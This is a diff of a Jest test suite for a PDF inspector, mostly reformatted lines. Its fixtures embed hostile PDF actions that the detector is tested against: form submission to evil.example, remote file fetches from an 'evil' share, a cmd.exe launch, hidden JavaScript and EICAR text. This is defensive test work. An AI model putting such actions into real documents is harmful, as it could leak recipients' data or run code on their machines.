@@ -1,8 +1,17 @@
 import { deflateSync } from 'node:zlib';
 import { afterAll, describe, expect, it } from '@jest/globals';
 import {
-  appendRevision, deflated, encryptedPdf, packObjects, textPage, writePackedPdf, writePdf, writeTextPdf,
-  type FixtureObjects, type FixtureStream, type TextPage,
+  appendRevision,
+  deflated,
+  encryptedPdf,
+  packObjects,
+  textPage,
+  writePackedPdf,
+  writePdf,
+  writeTextPdf,
+  type FixtureObjects,
+  type FixtureStream,
+  type TextPage,
 } from './pdf-fixture.ts';
 import { createPdfInspector } from './pdf-inspector.ts';
 
@@ -17,8 +26,11 @@ const lookAt = async (content: Buffer) => {
   const { verdict, signs } = await inspector.inspect(content, expected);
   return [verdict, ...(signs ?? [])];
 };
-const lookAtPage = (options: TextPage, others: FixtureObjects = {}) => lookAt(writePdf({ ...textPage(lines, options), ...others }));
-const link = (action: string): TextPage => ({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]` });
+const lookAtPage = (options: TextPage, others: FixtureObjects = {}) =>
+  lookAt(writePdf({ ...textPage(lines, options), ...others }));
+const link = (action: string): TextPage => ({
+  page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`,
+});
 
 const hex = (content: Buffer): Buffer => Buffer.from(`${content.toString('hex')}>`);
 const ascii85 = (content: Buffer): Buffer => {
@@ -30,7 +42,9 @@ const ascii85 = (content: Buffer): Buffer => {
       const digit = String.fromCharCode(33 + (word % 85));
       word = Math.floor(word / 85);
       return digit;
-    }).reverse().join('');
+    })
+      .reverse()
+      .join('');
     text += five === '!!!!!' ? 'z' : five;
   }
   return Buffer.from(`${text}~>`);
@@ -44,25 +58,46 @@ const predicted = (content: Buffer): Buffer => {
   }
   return deflateSync(Buffer.concat(rows));
 };
-const runs = (content: Buffer): Buffer =>
-  Buffer.from([...Array.from(content, (byte) => [0, byte]).flat(), 128]);
+const runs = (content: Buffer): Buffer => Buffer.from([...Array.from(content, (byte) => [0, byte]).flat(), 128]);
 
 const packings: readonly (readonly [string, (content: Buffer) => FixtureStream, FixtureObjects?])[] = [
   ['as it is', (content) => ({ dictionary: '', content })],
   ['deflated', (content) => deflated(content)],
   ['in hexadecimal digits', (content) => ({ dictionary: '/Filter /ASCIIHexDecode', content: hex(content) })],
-  ['in 85 letters, and deflated', (content) => ({ dictionary: '/Filter [/A85 /Fl]', content: ascii85(deflateSync(content)) })],
-  ['deflated twice', (content) => ({ dictionary: '/Filter [/FlateDecode /FlateDecode]', content: deflateSync(deflateSync(content)) })],
-  ['by its differences', (content) => ({
-    dictionary: '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 10 >>', content: predicted(content),
-  })],
-  ['by its differences, told elsewhere', (content) => ({
-    dictionary: '/Filter /FlateDecode /DecodeParms 31 0 R', content: predicted(content),
-  }), { 31: '<< /Predictor 12 /Columns 32 0 R >>', 32: '10' }],
+  [
+    'in 85 letters, and deflated',
+    (content) => ({ dictionary: '/Filter [/A85 /Fl]', content: ascii85(deflateSync(content)) }),
+  ],
+  [
+    'deflated twice',
+    (content) => ({ dictionary: '/Filter [/FlateDecode /FlateDecode]', content: deflateSync(deflateSync(content)) }),
+  ],
+  [
+    'by its differences',
+    (content) => ({
+      dictionary: '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 10 >>',
+      content: predicted(content),
+    }),
+  ],
+  [
+    'by its differences, told elsewhere',
+    (content) => ({
+      dictionary: '/Filter /FlateDecode /DecodeParms 31 0 R',
+      content: predicted(content),
+    }),
+    { 31: '<< /Predictor 12 /Columns 32 0 R >>', 32: '10' },
+  ],
   ['in a way told elsewhere', (content) => ({ dictionary: '/Filter 31 0 R', content: hex(content) }), { 31: '/AHx' }],
-  ['in ways told elsewhere', (content) => ({ dictionary: '/Filter [31 0 R /Fl]', content: hex(deflateSync(content)) }), { 31: '/AHx' }],
+  [
+    'in ways told elsewhere',
+    (content) => ({ dictionary: '/Filter [31 0 R /Fl]', content: hex(deflateSync(content)) }),
+    { 31: '/AHx' },
+  ],
   ['in runs', (content) => ({ dictionary: '/Filter /RunLengthDecode', content: runs(content) })],
-  ['in front of a picture’s own way', (content) => ({ dictionary: '/Filter [/AHx /DCTDecode]', content: hex(content) })],
+  [
+    'in front of a picture’s own way',
+    (content) => ({ dictionary: '/Filter [/AHx /DCTDecode]', content: hex(content) }),
+  ],
 ];
 
 // Rows of the same length: one that is missing would be taken for a callback.
@@ -70,7 +105,11 @@ const packed = packings.map(([how, pack, others = {}]) => [how, pack, others] as
 
 describe('a script in a form described in XML', () => {
   const form = (stream: FixtureStream, others: FixtureObjects = {}): Buffer =>
-    writePdf({ ...textPage(lines, { catalog: '/AcroForm << /Fields [] /XFA [(template) 9 0 R] >>' }), 9: stream, ...others });
+    writePdf({
+      ...textPage(lines, { catalog: '/AcroForm << /Fields [] /XFA [(template) 9 0 R] >>' }),
+      9: stream,
+      ...others,
+    });
   const script = Buffer.from('<template><subform><script>app.alert(1)</script></subform></template>');
   const plain = Buffer.from('<template><subform><field name="description"/></subform></template>');
 
@@ -88,12 +127,18 @@ describe('a script in a form described in XML', () => {
 
   it('is told of a form that the newer way of packing objects hides', async () => {
     const { 1: catalog, ...others } = textPage(lines, { catalog: '/AcroForm << /Fields [] /XFA 9 0 R >>' });
-    expect(await lookAt(writePackedPdf({ ...others, 9: deflated(script) }, 12, { 1: catalog }))).toEqual(['scripted', 'form_script']);
+    expect(await lookAt(writePackedPdf({ ...others, 9: deflated(script) }, 12, { 1: catalog }))).toEqual([
+      'scripted',
+      'form_script',
+    ]);
   });
 
   it('is none in a page that is attached', async () => {
-    const attached = { ...textPage(lines, { catalog: '/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>' }),
-      9: '<< /Type /Filespec /F (a.html) /EF << /F 10 0 R >> >>', 10: deflated('<script>x</script>', '/Type /EmbeddedFile') };
+    const attached = {
+      ...textPage(lines, { catalog: '/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>' }),
+      9: '<< /Type /Filespec /F (a.html) /EF << /F 10 0 R >> >>',
+      10: deflated('<script>x</script>', '/Type /EmbeddedFile'),
+    };
     expect(await lookAt(writePdf(attached))).toEqual(['sound']);
   });
 });
@@ -103,8 +148,18 @@ describe('what a document does by itself', () => {
     ['sends what is in its fields', '<< /S /SubmitForm /F (https://evil.example) >>', 'automatic', 'submit'],
     ['fills its fields from elsewhere', '<< /S /ImportData /F (data.fdf) >>', 'automatic', 'import'],
     ['opens an address', '<< /S /URI /URI (https://evil.example) >>', 'automatic', 'open_address'],
-    ['opens a document of another machine', String.raw`<< /S /GoToR /F (\\\\evil\\share) /D [0 /Fit] >>`, 'automatic', 'remote_file'],
-    ['opens a document of another site', '<< /S /GoToE /F (https://evil.example/a.pdf) /D [0 /Fit] >>', 'automatic', 'remote_file'],
+    [
+      'opens a document of another machine',
+      String.raw`<< /S /GoToR /F (\\\\evil\\share) /D [0 /Fit] >>`,
+      'automatic',
+      'remote_file',
+    ],
+    [
+      'opens a document of another site',
+      '<< /S /GoToE /F (https://evil.example/a.pdf) /D [0 /Fit] >>',
+      'automatic',
+      'remote_file',
+    ],
     ['starts a program', '<< /S /Launch /F (cmd.exe) >>', 'scripted', 'launch'],
     ['runs a script', '<< /S /JavaScript /JS (x) >>', 'scripted', 'javascript'],
     ['runs a script while it shows a film', '<< /S /Rendition /OP 0 /JS (x) >>', 'scripted', 'javascript'],
@@ -123,25 +178,36 @@ describe('what a document does by itself', () => {
   });
 
   it('is told where its kind stands elsewhere, or twice', async () => {
-    expect(await lookAtPage({ catalog: '/OpenAction << /S 9 0 R /F (https://evil.example) >>' }, { 9: '/SubmitForm' })).toEqual(['automatic', 'submit']);
+    expect(
+      await lookAtPage({ catalog: '/OpenAction << /S 9 0 R /F (https://evil.example) >>' }, { 9: '/SubmitForm' }),
+    ).toEqual(['automatic', 'submit']);
     expect(await lookAtPage(link('<< /S 9 0 R /JS (x) >>'), { 9: '/JavaScript' })).toEqual(['scripted', 'javascript']);
     expect(await lookAtPage(link('<< /S /JavaScript /JS (x) /S /GoTo >>'))).toEqual(['scripted', 'javascript']);
   });
 
   it('is told where one action follows another in a circle', async () => {
-    const circle = { 9: '<< /S /GoTo /D [3 0 R /Fit] /Next 10 0 R >>', 10: '<< /S /ImportData /F (a) /Next [9 0 R 10 0 R] >>' };
+    const circle = {
+      9: '<< /S /GoTo /D [3 0 R /Fit] /Next 10 0 R >>',
+      10: '<< /S /ImportData /F (a) /Next [9 0 R 10 0 R] >>',
+    };
     expect(await lookAtPage({ catalog: '/OpenAction 9 0 R' }, circle)).toEqual(['automatic', 'import']);
   });
 
   it.each<[string, TextPage]>([
     ['a view of its first page', { catalog: '/OpenAction [3 0 R /Fit]' }],
     ['an action that leads to one', { catalog: '/OpenAction << /S /GoTo /D [3 0 R /XYZ 0 842 1] >>' }],
-    ['names of places in it', { catalog: '/Names << /Dests << /Names [(a) [3 0 R /Fit]] >> >> /Dests << /b [3 0 R /Fit] >>' }],
+    [
+      'names of places in it',
+      { catalog: '/Names << /Dests << /Names [(a) [3 0 R /Fit]] >> >> /Dests << /b [3 0 R /Fit] >>' },
+    ],
     ['printing', { catalog: '/OpenAction << /S /Named /N /Print >>' }],
     ['a link that is clicked', link('<< /S /URI /URI (https://bank.example/receipt?id=1) >>')],
     ['a button that is clicked', link('<< /S /SubmitForm /F (https://bank.example) >>')],
     ['a link to another document', link('<< /S /GoToR /F (terms.pdf) /D [0 /Fit] >>')],
-    ['a font with the name of a script', { page: '/Resources << /Font << /F1 5 0 R /JS 5 0 R /JavaScript 5 0 R >> >>' }],
+    [
+      'a font with the name of a script',
+      { page: '/Resources << /Font << /F1 5 0 R /JS 5 0 R /JavaScript 5 0 R >> >>' },
+    ],
     ['a name tree without scripts', { catalog: '/Names << /JavaScript << /Names [] >> >>' }],
   ])('is nothing bad: %s', async (_, options) => {
     expect(await lookAtPage(options)).toEqual(['sound']);
@@ -176,9 +242,13 @@ describe('the text that stands for malware', () => {
   it('is told in a file that is attached, in a picture, in packed objects, and in the file itself', async () => {
     const told = ['infected', 'eicar'];
     const attached = deflated(eicar, '/Type /EmbeddedFile');
-    expect(await lookAt(writePdf({ ...page, 9: '<< /Type /Filespec /F (a.com) /EF << /F 10 0 R >> >>', 10: attached }))).toEqual(told);
+    expect(
+      await lookAt(writePdf({ ...page, 9: '<< /Type /Filespec /F (a.com) /EF << /F 10 0 R >> >>', 10: attached })),
+    ).toEqual(told);
     expect(await lookAt(writePdf({ ...page, 9: deflated(eicar, '/Subtype /Image /Width 1 /Height 1') }))).toEqual(told);
-    expect(await lookAt(writePdf({ ...page, 9: packObjects({ 20: `<< /A (${eicar.replace(/[\\()]/g, '$&')}) >>` }) }))).toEqual(told);
+    expect(
+      await lookAt(writePdf({ ...page, 9: packObjects({ 20: `<< /A (${eicar.replace(/[\\()]/g, '$&')}) >>` }) })),
+    ).toEqual(told);
     expect(await lookAt(Buffer.concat([writePdf(page), Buffer.from(eicar)]))).toEqual(told);
     expect(await lookAt(Buffer.from(eicar))).toEqual(told);
   });
@@ -190,16 +260,29 @@ it('a script is told beside the encryption that hides the rest', async () => {
 });
 
 describe('pages', () => {
-  const pages = (count: string, kids = '3 0 R 13 0 R') => writePdf({
-    ...page, 2: `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`, 13: page[3],
-  });
+  const pages = (count: string, kids = '3 0 R 13 0 R') =>
+    writePdf({
+      ...page,
+      2: `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
+      13: page[3],
+    });
 
-  it.each(['-1', '0', '1', '2', '7', '1000000000', '2.5', '(two)', '99 0 R'])('are counted, whatever the file says: %s', async (count) => {
-    expect(await inspector.inspect(pages(count), expected)).toMatchObject({ verdict: 'sound', pages: 2, hasExpectedAmount: true });
-  });
+  it.each(['-1', '0', '1', '2', '7', '1000000000', '2.5', '(two)', '99 0 R'])(
+    'are counted, whatever the file says: %s',
+    async (count) => {
+      expect(await inspector.inspect(pages(count), expected)).toMatchObject({
+        verdict: 'sound',
+        pages: 2,
+        hasExpectedAmount: true,
+      });
+    },
+  );
 
   it('are none where there are none, whatever the file says', async () => {
-    expect(await inspector.inspect(pages('3', ''), expected)).toMatchObject({ verdict: 'unreadable', fault: 'It has no pages.' });
+    expect(await inspector.inspect(pages('3', ''), expected)).toMatchObject({
+      verdict: 'unreadable',
+      fault: 'It has no pages.',
+    });
   });
 });
 
@@ -218,7 +301,12 @@ it('a file that is made for the web, and saved again, is sound', async () => {
 });
 
 it('a small file of many packed objects is sound', async () => {
-  const many = Object.fromEntries(Array.from({ length: 200 }, (_, index) => [100 + index, `<< /Type /StructElem /S /P /K [ ${' '.repeat(10_000)} ] >>`]));
+  const many = Object.fromEntries(
+    Array.from({ length: 200 }, (_, index) => [
+      100 + index,
+      `<< /Type /StructElem /S /P /K [ ${' '.repeat(10_000)} ] >>`,
+    ]),
+  );
   const { 1: catalog, ...others } = textPage(lines);
   expect(await lookAt(writePackedPdf({ 1: catalog, ...others }, 12, many))).toEqual(['sound']);
 });
